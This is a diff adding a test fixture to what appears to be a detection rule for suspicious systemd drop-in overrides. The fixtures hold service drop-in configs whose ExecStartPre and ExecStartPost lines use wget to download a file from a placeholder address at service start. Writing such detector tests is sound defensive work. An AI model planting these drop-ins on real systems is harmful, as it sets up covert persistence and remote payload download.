@@ -90,6 +90,10 @@ export const dropInChangesCommand: ActivationRule = {
         "/etc/systemd/system/vendor.service.d/x.conf":
           "[Service]\nExecStartPre=/usr/bin/systemd-cat /usr/bin/wget -qO /srv/x http://192.0.2.7/x\n",
       }),
+      shipped("vendor", "ExecStart=/usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf":
+          "[Service]\nExecStartPost=/usr/bin/systemd-cat /usr/bin/wget -qO /srv/x http://192.0.2.7/x\n",
+      }),
     ],
     finds: {
       9: [
